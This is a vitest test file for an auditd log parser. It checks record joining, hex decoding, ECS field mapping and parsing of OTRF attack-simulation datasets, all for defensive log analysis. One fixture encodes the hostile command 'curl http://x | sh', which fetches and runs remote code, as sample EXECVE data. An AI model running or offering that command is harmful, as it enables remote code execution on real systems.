// The auditd format: records joined into events by msg=audit(…) id (interleaved, EOE-terminated or not),
// the kernel's encodings undone, ECS fields, every record settled once, the sniff, the golden file
// (test/fixtures/ingest/audit.log, regenerate with UPDATE_GOLDEN=1) and real OTRF auditd logs read from zips.

import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { NormalisedEvent } from '../../../../src-main/common/event'
import type { RecordOutcome } from '../../../../src-main/core/ingest/parser'
import { auditdFormat, OPEN_EVENT_WINDOW } from '../../../../src-main/core/ingest/parsers/auditd'
import { journaldJsonFormat } from '../../../../src-main/core/ingest/parsers/journaldJson'
import { DATASETS, linesOf, readFirstZipMember, readFixtureLines } from './fixtureLines'
import {
  byLine,
  eventsOf,
  expectEachLineSettledOnce,
  expectGolden,
  settleLines,
  toGolden
} from './parserHarness'

const OTRF_LINUX = join(DATASETS, 'otrf-security-datasets/datasets/atomic/linux')
const HAVE_OTRF = existsSync(OTRF_LINUX)
if (!HAVE_OTRF) console.warn(`auditd real-data tests skipped: ${OTRF_LINUX} is absent`)

const parseLines = (lines: readonly string[]): RecordOutcome[] =>
  settleLines(auditdFormat.create({ timeZone: 'UTC', referenceYear: 2026 }), lines)

function onlyEvent(lines: readonly string[]): NormalisedEvent {
  const events = eventsOf(parseLines(lines))
  expect(events).toHaveLength(1)
  return events[0]
}

const hex = (text: string): string => Buffer.from(text, 'utf8').toString('hex').toUpperCase()
const SYSCALL_EXECVE =
  'arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=0 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key=(null)'

describe('auditd records', () => {
  it('joins SYSCALL, EXECVE, CWD, PATH and PROCTITLE into one execve event with decoded arguments', () => {
    const id = 'msg=audit(1700000000.123:42)'
    const lines = [
      `type=SYSCALL ${id}: ${SYSCALL_EXECVE}`,
      `type=EXECVE ${id}: argc=3 a0="sh" a1="-c" a2=${hex('curl http://x | sh')}`,
      `type=CWD ${id}: cwd="/root"`,
      `type=PATH ${id}: item=0 name="/bin/sh" inode=7 nametype=NORMAL`,
      `type=PROCTITLE ${id}: proctitle=${hex('sh\0-c\0curl http://x | sh')}`,
      `type=EOE ${id}: `
    ]
    const outcomes = parseLines(lines)
    expect(outcomes.map((outcome) => outcome.kind)).toEqual([
      'event',
      'skipped',
      'skipped',
      'skipped',
      'skipped',
      'skipped'
    ])
    expect(outcomes[1]).toMatchObject({ reason: 'part of the audit event at line 1' })
    const event = eventsOf(outcomes)[0]
    expect(event.timestamp).toBe(1_700_000_000_123)
    expect(event.raw).toBe(lines.join('\n'))
    expect(event.fields).toMatchObject({
      'event.code': 'SYSCALL',
      'event.action': 'execve',
      'event.category': 'process',
      'event.outcome': 'success',
      'user.id': '1000',
      'process.pid': 11,
      'process.parent.pid': 10,
      'process.name': 'sh',
      'process.executable': '/usr/bin/dash',
      'process.command_line': 'sh -c curl http://x | sh',
      'file.path': '/bin/sh'
    })
    expect(event.extra).toMatchObject({
      'auditd.execve.a2': 'curl http://x | sh',
      'auditd.proctitle': 'sh -c curl http://x | sh',
      'auditd.uid': '0',
      'auditd.a0': '55d0',
      'process.working_directory': '/root'
    })
    expect(event.fields['rule.name']).toBeUndefined()
  })

  it('joins an argument the kernel split into pieces, and keeps only the arguments a cut record holds', () => {
    const id = 'msg=audit(1700000000.000:7)'
    const split = onlyEvent([
      `type=SYSCALL ${id}: ${SYSCALL_EXECVE}`,
      `type=EXECVE ${id}: argc=2 a0="echo" a1_len=12 a1[0]=${hex('hello ')} a1[1]=${hex('world!')}`
    ])
    expect(split.fields['process.command_line']).toBe('echo hello world!')
    const cut = onlyEvent([
      `type=SYSCALL ${id}: ${SYSCALL_EXECVE}`,
      `type=EXECVE ${id}: argc=4 a0="ls" a1="-l"`
    ])
    expect(cut.fields['process.command_line']).toBe('ls -l')
  })

  it('decodes hex only in fields audit encodes, and only uppercase whole bytes', () => {
    const event = onlyEvent([
      `type=SYSCALL msg=audit(1700000000.000:8): arch=c000003e syscall=2 success=yes exit=3 a0=ABCD a1=0 items=1 pid=5 auid=0 comm=${hex('my prog')} exe="/tmp/x" key=${hex('k1\x01k2')}`,
      `type=PATH msg=audit(1700000000.000:8): item=0 name=${hex('/tmp/a b')} nametype=NORMAL`,
      `type=PATH msg=audit(1700000000.000:8): item=1 name=cafe nametype=NORMAL`
    ])
    expect(event.fields['process.name']).toBe('my prog')
    expect(event.fields['rule.name']).toBe('k1,k2')
    expect(event.fields['file.path']).toBe('/tmp/a b')
    expect(event.extra?.['auditd.a0']).toBe('ABCD')
    expect(event.extra?.['auditd.path.1.name']).toBe('cafe')
  })

  it('reads the ENRICHED format: translated names after \\x1d, syscall names for any architecture', () => {
    const event = onlyEvent([
      'node=arm01 type=SYSCALL msg=audit(1700000000.000:9): arch=c00000b7 syscall=221 success=yes exit=0 pid=9 auid=1001 uid=0 comm="id" exe="/usr/bin/id"\x1dARCH=aarch64 SYSCALL=execve AUID="bob" UID="root"'
    ])
    expect(event.fields).toMatchObject({
      'host.name': 'arm01',
      'event.action': 'execve',
      'user.id': '1001',
      'user.name': 'bob'
    })
    expect(event.extra).toMatchObject({
      'auditd.ARCH': 'aarch64',
      'auditd.UID': 'root',
      'auditd.syscall': '221'
    })
    const unknownArch = onlyEvent([
      'type=SYSCALL msg=audit(1700000000.000:10): arch=c00000b7 syscall=221 success=yes exit=0 pid=9 auid=1001'
    ])
    expect(unknownArch.fields['event.action']).toBe('syscall')
  })

  it('reads user-space records: the msg= fields, the account, the peer address and the result', () => {
    const failed = onlyEvent([
      `type=USER_LOGIN msg=audit(1700000000.500:11): pid=20 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=::ffff:203.0.113.9 terminal=sshd res=failed'`
    ])
    expect(failed.fields).toMatchObject({
      'event.code': 'USER_LOGIN',
      'event.action': 'user_login',
      'event.category': 'authentication',
      'event.outcome': 'failure',
      'user.name': 'root',
      'source.ip': '203.0.113.9',
      message: 'user_login for root from 203.0.113.9 failed: login'
    })
    expect(failed.fields['user.id']).toBeUndefined()
    const sudo = onlyEvent([
      `type=USER_CMD msg=audit(1700000000.600:12): pid=21 uid=1000 auid=1000 ses=3 msg='cwd="/srv" cmd=${hex("bash -c 'id'")} exe="/usr/bin/sudo" terminal=pts/1 res=success'`
    ])
    expect(sudo.fields).toMatchObject({
      'event.category': 'process',
      'user.id': '1000',
      'process.command_line': "bash -c 'id'"
    })
    expect(sudo.extra?.['process.working_directory']).toBe('/srv')
  })

  it('reads SOCKADDR as the peer of a connect or an accept, and unix sockets into extra', () => {
    const connect = onlyEvent([
      'type=SYSCALL msg=audit(1700000000.000:13): arch=c000003e syscall=42 success=yes exit=0 pid=30 auid=1000',
      'type=SOCKADDR msg=audit(1700000000.000:13): saddr=0A0001BB0000000020010DB8000000000000000000000001'
    ])
    expect(connect.fields).toMatchObject({ 'destination.ip': '2001:db8::1', 'destination.port': 443 })
    const accept = onlyEvent([
      'type=SYSCALL msg=audit(1700000000.000:14): arch=c000003e syscall=43 success=yes exit=4 pid=31 auid=4294967295 uid=0',
      'type=SOCKADDR msg=audit(1700000000.000:14): saddr=0200D431C63364070000000000000000'
    ])
    expect(accept.fields).toMatchObject({ 'source.ip': '198.51.100.7', 'source.port': 54321, 'user.id': '0' })
    const unix = onlyEvent([
      'type=SYSCALL msg=audit(1700000000.000:15): arch=c000003e syscall=42 success=yes exit=0 pid=32 auid=1000',
      `type=SOCKADDR msg=audit(1700000000.000:15): saddr=0100${hex('/run/docker.sock')}00`
    ])
    expect(unix.extra).toMatchObject({
      'auditd.sockaddr.family': 'unix',
      'auditd.sockaddr.path': '/run/docker.sock'
    })
  })

  it('takes the subject from the SYSCALL when an AVC comes first, and names the file it was denied', () => {
    const event = onlyEvent([
      'type=AVC msg=audit(1700000000.000:16): avc:  denied  { read } for  pid=40 comm="httpd" name="shadow" tclass=file permissive=0',
      'type=SYSCALL msg=audit(1700000000.000:16): arch=c000003e syscall=257 success=no exit=-13 pid=40 ppid=1 auid=4294967295 uid=48 comm="httpd" exe="/usr/sbin/httpd"',
      'type=CWD msg=audit(1700000000.000:16): cwd="/etc"'
    ])
    expect(event.fields).toMatchObject({
      'event.code': 'AVC',
      'event.action': 'avc',
      'event.outcome': 'failure',
      'event.reason': 'EACCES: permission denied',
      'process.parent.pid': 1,
      'process.executable': '/usr/sbin/httpd',
      'file.path': '/etc/shadow',
      'user.id': '48'
    })
    expect(event.extra?.['auditd.text']).toBe('avc: denied { read } for')
  })
})

describe('auditd event assembly', () => {
  const record = (type: string, serial: number, body = 'pid=1 auid=1000'): string =>
    `type=${type} msg=audit(1700000000.000:${serial}): ${body}`

  it('joins interleaved records of open events and settles each at its EOE', () => {
    const outcomes = parseLines([
      record('SYSCALL', 1),
      record('SYSCALL', 2),
      record('CWD', 1, 'cwd="/a"'),
      record('CWD', 2, 'cwd="/b"'),
      record('EOE', 2, ''),
      record('EOE', 1, '')
    ])
    expect(outcomes.map((outcome) => [outcome.kind, outcome.record.line])).toEqual([
      ['event', 2],
      ['skipped', 4],
      ['skipped', 5],
      ['event', 1],
      ['skipped', 3],
      ['skipped', 6]
    ])
    const [second, first] = eventsOf(outcomes)
    expect(first.extra?.['process.working_directory']).toBe('/a')
    expect(second.extra?.['process.working_directory']).toBe('/b')
  })

  it(`keeps at most ${OPEN_EVENT_WINDOW} events open: a record after that starts a new event`, () => {
    const lines = Array.from({ length: OPEN_EVENT_WINDOW + 1 }, (_, index) => record('SYSCALL', index + 1))
    lines.push(record('CWD', 1, 'cwd="/late"'))
    const outcomes = parseLines(lines)
    expect(eventsOf(outcomes)).toHaveLength(OPEN_EVENT_WINDOW + 2)
    // Serial 1 settled when the ninth event opened, so its late CWD is an event of its own.
    expect(outcomes[0]).toMatchObject({ kind: 'event', record: { line: 1 } })
    expect(outcomes[1]).toMatchObject({ kind: 'event', record: { line: 2 } })
    expect(outcomes[outcomes.length - 1].record.line).toBe(lines.length)
    expectEachLineSettledOnce(byLine(outcomes), lines.length)
  })

  it('settles user-space records at once and holds the same serial on two hosts apart', () => {
    const outcomes = parseLines([
      record('SYSCALL', 5),
      record(
        'USER_AUTH',
        6,
        'pid=2 uid=0 auid=4294967295 msg=\'op=PAM:authentication acct="a" res=success\''
      ),
      `node=web01 ${record('SYSCALL', 5)}`,
      `node=web02 ${record('SYSCALL', 5)}`
    ])
    expect(outcomes[0]).toMatchObject({ kind: 'event', record: { line: 2 } })
    expect(eventsOf(outcomes).map((event) => event.fields['host.name'])).toEqual([
      undefined,
      undefined,
      'web01',
      'web02'
    ])
  })

  it('settles a log that ends mid-event at end(), and skips an EOE whose event is gone', () => {
    const outcomes = parseLines([
      record('EOE', 9, ''),
      record('SYSCALL', 10),
      record('PROCTITLE', 10, 'proctitle="x"')
    ])
    expect(outcomes.map((outcome) => [outcome.kind, outcome.record.line])).toEqual([
      ['skipped', 1],
      ['event', 2],
      ['skipped', 3]
    ])
    expect(outcomes[0]).toMatchObject({ reason: expect.stringContaining('end-of-event marker for audit(') })
  })

  it('rejects broken lines with reasons and skips blank lines and ausearch separators', () => {
    const outcomes = parseLines([
      'type=SYSCALL msg=audit(1700000000.000:1): comm="cut',
      'garbage',
      'type=SYSCALL msg=audit(1700000000:1): pid=1',
      'type=SYSCALL msg=audit(1700000000.000:1) pid=1',
      'type=SYSCALL pid=1',
      '',
      '----'
    ])
    expect(outcomes.map((outcome) => (outcome.kind === 'event' ? 'event' : outcome.reason))).toEqual([
      `the value of comm opens with " and never closes: 'comm="cut' (the line may be cut short)`,
      "'garbage' is not an audit record: expected [node=HOST ]type=TYPE msg=audit(SECONDS.MS:SERIAL): FIELDS",
      "event id 'audit(1700000000:1)' is not audit(SECONDS.MS:SERIAL)",
      "expected ':' after 'audit(1700000000.000:1)', found ' pid=1'",
      "'type=SYSCALL pid=1' has no msg=audit(…) event id after the type: expected [node=HOST ]type=TYPE msg=audit(SECONDS.MS:SERIAL): FIELDS",
      'blank line',
      'ausearch separator between events'
    ])
  })

  it('settles every record of any prefix of every fixture line exactly once, without throwing', () => {
    const fixture = readFixtureLines('audit.log')
    const cut = fixture.flatMap((line) =>
      Array.from({ length: Math.ceil(line.length / 7) }, (_, index) => line.slice(0, index * 7))
    )
    expectEachLineSettledOnce(byLine(parseLines(cut)), cut.length)
  })
})

describe('auditd sniff', () => {
  it('is sure of audit logs and never claims the other fixtures', () => {
    // 43 of the 47 fixture lines are records or separators; the other 4 are the broken ones.
    expect(auditdFormat.sniff(readFixtureLines('audit.log'))).toBeCloseTo(43 / 47)
    for (const fixture of [
      'auth.log',
      'access-combined.log',
      'access-common.log',
      'syslog-5424.log',
      'journal.json'
    ]) {
      expect(auditdFormat.sniff(readFixtureLines(fixture)), fixture).toBe(0)
    }
    expect(journaldJsonFormat.sniff(readFixtureLines('audit.log'))).toBe(0)
    expect(auditdFormat.sniff(['----', '----'])).toBe(0)
  })
})

describe('golden file', () => {
  it('audit.log parses to audit.expected.json', () => {
    const lines = readFixtureLines('audit.log')
    const outcomes = parseLines(lines)
    expectEachLineSettledOnce(byLine(outcomes), lines.length)
    expectGolden(
      'audit.expected.json',
      byLine(outcomes).map((outcome) => toGolden(outcome, []))
    )
  })
})

const readZipLines = (relativePath: string): string[] =>
  linesOf(readFirstZipMember(join(OTRF_LINUX, relativePath)))

describe.skipIf(!HAVE_OTRF)('OTRF Security-Datasets Linux atomics (auditd inside zips)', () => {
  // Expected numbers come from the archives themselves, not from this parser:
  //   unzip -p <zip> | wc -l                                         → lines
  //   unzip -p <zip> | grep -o 'msg=audit([^)]*)' | sort -u | wc -l  → events (distinct event ids)
  //   unzip -p <zip> | grep '^type=EXECVE' | sed -E 's/.*argc=[0-9]+ //; s/a[0-9]+="([^"]*)"/\1/g' → argv
  it('sh_binary_padding_dd: 6 records, 1 event, dd with its arguments', () => {
    const lines = readZipLines('defense_evasion/host/sh_binary_padding_dd.zip')
    expect(auditdFormat.sniff(lines)).toBe(1)
    const outcomes = parseLines(lines)
    expect(lines).toHaveLength(6)
    expectEachLineSettledOnce(byLine(outcomes), 6)
    const events = eventsOf(outcomes)
    expect(events.map((event) => event.fields['process.command_line'])).toEqual([
      'dd if=/dev/zero bs=1 count=1'
    ])
    expect(events[0].fields).toMatchObject({
      'event.action': 'execve',
      'user.id': '1000',
      'process.pid': 2168
    })
    expect(events[0].extra?.['auditd.proctitle']).toBe('dd if=/dev/zero bs=1 count=1')
  })

  it('sh_arp_cache: 12 records, 2 events, arp -a piped into grep', () => {
    const lines = readZipLines('discovery/host/sh_arp_cache.zip')
    const outcomes = parseLines(lines)
    expect(lines).toHaveLength(12)
    expectEachLineSettledOnce(byLine(outcomes), 12)
    expect(outcomes.filter((outcome) => outcome.kind === 'skipped')).toHaveLength(10)
    expect(eventsOf(outcomes).map((event) => event.fields['process.command_line'])).toEqual([
      'arp -a',
      'grep -v ^?'
    ])
  })
})
